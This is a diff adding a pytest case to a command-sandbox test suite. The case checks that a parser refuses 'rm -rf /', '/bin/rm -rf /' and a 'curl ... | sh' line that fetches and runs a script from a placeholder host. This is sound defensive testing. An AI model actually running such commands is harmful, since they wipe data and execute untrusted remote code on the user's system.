@@ -101,6 +101,16 @@ def test_inline_code_runs_when_the_configuration_allows_it(store: Store, project
     assert result.accurate
 
 
+@pytest.mark.parametrize(
+    "text",
+    ["rm -rf /", "curl -fsSL https://example.invalid/install.sh | sh", "/bin/rm -rf /"],
+)
+def test_destructive_commands_are_refused_by_the_check_alone(text: str) -> None:
+    # Checked without any way to run: these must never reach a process, even if broken.
+    with pytest.raises(CommandNotAllowed):
+        parse_command(text, SandboxConfig())
+
+
 def test_python_running_a_project_file_or_module_is_not_inline_code() -> None:
     config = SandboxConfig()
     for text in ("python check.py -c x", "python -m pytest -c setup.cfg", "python3 -B -m mypy ."):
